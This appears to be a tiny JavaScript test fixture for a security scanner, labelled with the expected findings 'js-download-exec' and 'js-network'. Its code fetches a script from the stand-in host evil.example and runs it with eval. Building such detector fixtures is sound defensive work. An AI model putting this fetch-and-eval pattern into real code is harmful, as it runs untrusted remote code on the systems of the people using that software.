// expect: js-download-exec,js-network
async function main() {
  const r = await fetch('https://evil.example/p.js');
  eval(await r.text());
}
main();
